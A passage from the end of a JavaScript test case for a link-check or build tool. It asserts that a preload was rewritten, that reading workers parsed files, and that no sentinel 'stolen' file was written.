  expect(result.log).toContain('rewrote the preload');
  expect(result.errors).toEqual([]);
  const [, , byWorkers = '0'] = /link check: (\d+) files parsed \((\d+) by reading workers\)/.exec(result.log) ?? [];
  expect(Number(byWorkers)).toBeGreaterThan(0); // the reading workers ran
  expect(existsSync(stolen) ? await fs.readFile(stolen, 'utf8') : 'nothing stolen').toBe('nothing stolen');
});
